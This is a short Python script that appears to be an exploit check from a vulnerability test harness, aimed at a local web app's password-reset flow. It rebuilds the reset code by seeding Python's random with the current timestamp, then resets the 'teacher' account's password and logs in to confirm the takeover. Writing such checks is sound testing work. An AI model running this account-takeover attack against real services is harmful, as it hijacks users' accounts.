import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


import random

t0 = int(time.time())
c.post("/forgot", json={"name": "teacher"})
hit = False
for t in (t0, t0 + 1):
    rng = random.Random(t)
    code = "".join(rng.choice("abcdefghjkmnpqrstuvwxyz23456789") for _ in range(20))
    time.sleep(0.5)
    if c.post("/reset", json={"name": "teacher", "code": code, "password": "taken-over-now"}).status_code == 200:
        hit = c.post("/login", json={"name": "teacher", "password": "taken-over-now"}).status_code == 200
        break
done(hit)
